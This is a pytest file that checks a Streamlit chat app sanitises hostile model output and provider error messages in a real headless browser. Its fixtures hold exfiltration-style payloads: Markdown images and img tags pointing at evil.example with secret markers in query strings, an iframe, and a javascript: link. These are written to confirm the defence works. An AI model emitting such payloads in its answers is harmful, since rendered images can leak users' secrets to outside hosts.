"""Hostile model output on the real page: Streamlit's own renderer in a real headless Chromium must make
no request to any host but the app's, run nothing and link nowhere unsafe, while the answer streams,
once it is finished, and after a reload. Error texts the page shows go through the same sanitiser."""

from __future__ import annotations

import time
from urllib.parse import urlparse

import pytest
import streamlit as st
from playwright.sync_api import expect
from streamlit.testing.v1 import AppTest

from conftest import ROOT
from test_sanitize import BACKTICK_INFO_STRING, ESCAPED_BACKTICK, SPAN_ACROSS_HEADING

# The fence-like line's closing ``` opens a real fence that runs to the end: that construct goes last.
HOSTILE = "\n\n".join(
    [
        "Here is my answer.",
        ESCAPED_BACKTICK,
        SPAN_ACROSS_HEADING,
        "A footnote[^1] and a table:",
        "| col ![t](http://evil.example/t.png?d=SECRET4) |\n|---|\n| <img src=http://evil.example/u.png> |",
        "> <div>\n> ![q](http://evil.example/q.png?d=SECRET5)\n> </div>",
        "[![badge](http://evil.example/badge.png)](https://ok.example/)",
        '<iframe src="http://evil.example/frame"></iframe> [x](javascript:window.__pwned=1)',
        "[^1]: Note ![f](http://evil.example/f.png?d=SECRET6)",
        BACKTICK_INFO_STRING,
        "The end.",
    ]
)


def outside(requests: list[str]) -> list[str]:
    return [
        u
        for u in requests
        if urlparse(u).scheme in ("http", "https", "ws", "wss") and urlparse(u).hostname != "127.0.0.1"
    ]


def record_requests(page) -> list[str]:
    """Every request the page starts; any to another host is aborted before it leaves (not even DNS)."""
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.route(lambda url: urlparse(url).hostname not in ("127.0.0.1", None), lambda route: route.abort())
    return requests


@pytest.mark.browser
def test_the_request_log_sees_a_fetch_to_an_unreachable_host(page):
    """The check below means something: an <img> to a name that can't resolve still shows as a request."""
    requests = record_requests(page)
    page.set_content('<img src="http://evil.example/probe.png">')
    page.wait_for_timeout(500)
    assert outside(requests) == ["http://evil.example/probe.png"]


def check(box, page, requests: list[str]) -> None:
    assert box.locator("img, script, iframe").count() == 0
    hrefs = [a.get_attribute("href") or "" for a in box.locator("a").all()]
    assert not any(h.lower().startswith(("javascript", "data", "vbscript")) for h in hrefs), hrefs
    for secret in ("SECRET1", "SECRET2", "SECRET3"):  # the three constructs: links the reader may open
        assert any(secret in h for h in hrefs), (secret, hrefs)
    assert outside(requests) == []
    assert page.evaluate("window.__pwned") is None


@pytest.mark.browser
def test_hostile_output_fetches_nothing_while_streaming_after_it_and_after_a_reload(streamlit_server, page, tmp_path):
    url = streamlit_server(provider="replay", replay_rate=60, replay_text=HOSTILE, max_tokens=400)
    requests = record_requests(page)
    page.goto(url)
    page.locator(".st-key-input textarea").fill("Say something nasty")
    page.get_by_role("button", name="Go", exact=True).click()
    box = page.locator(".st-key-answer").last
    deadline = time.monotonic() + 120
    while "The end." not in (box.inner_text() if box.count() else "") and time.monotonic() < deadline:
        assert box.count() == 0 or box.locator("img, script, iframe").count() == 0  # never, not even mid-stream
        page.wait_for_timeout(100)
    expect(page.locator(".st-key-actions")).to_be_visible(timeout=60_000)  # finished and redrawn from history
    check(page.locator(".st-key-answer").last, page, requests)
    text = page.locator(".st-key-answer").last.inner_text()
    assert "Image: x" in text and "<img src=http://evil.example/u.png>" in text and "<iframe" in text

    page.reload()  # drawn from the stored message only
    expect(page.locator(".st-key-actions")).to_be_visible(timeout=60_000)
    page.locator(".st-key-answer").last.get_by_text("The end.").wait_for()
    check(page.locator(".st-key-answer").last, page, requests)


def test_error_texts_go_through_the_sanitiser(monkeypatch, tmp_path):
    """A provider's error message is outside text too: st.error renders Markdown, images included."""
    import response_streaming.ui.resources as resources
    from response_streaming.errors import ResponseStreamingError
    from response_streaming.providers.replay import ReplayProvider

    monkeypatch.setenv("RS_PROVIDER", "replay")
    monkeypatch.setenv("RS_DATA_DIR", str(tmp_path))
    hostile = ResponseStreamingError("Upstream said ![x](http://evil.example/e.png?d=SECRET) <b>no</b>")
    monkeypatch.setattr(
        resources, "make_provider", lambda s: ReplayProvider(text="Some words", fail_after=1, error=hostile)
    )
    st.cache_resource.clear()
    try:
        at = AppTest.from_file(str(ROOT / "streaming_app.py"), default_timeout=30)
        at.run()
        at.text_area[0].input("Hello")
        at.button(key="go").click().run()
        assert not at.exception
        [shown] = [e.value for e in at.error if "Upstream said" in e.value]
        assert "![" not in shown and "<b>" not in shown
        assert "(<http://evil.example/e.png?d=SECRET>)" in shown  # a link now, never fetched
    finally:
        st.cache_resource.clear()
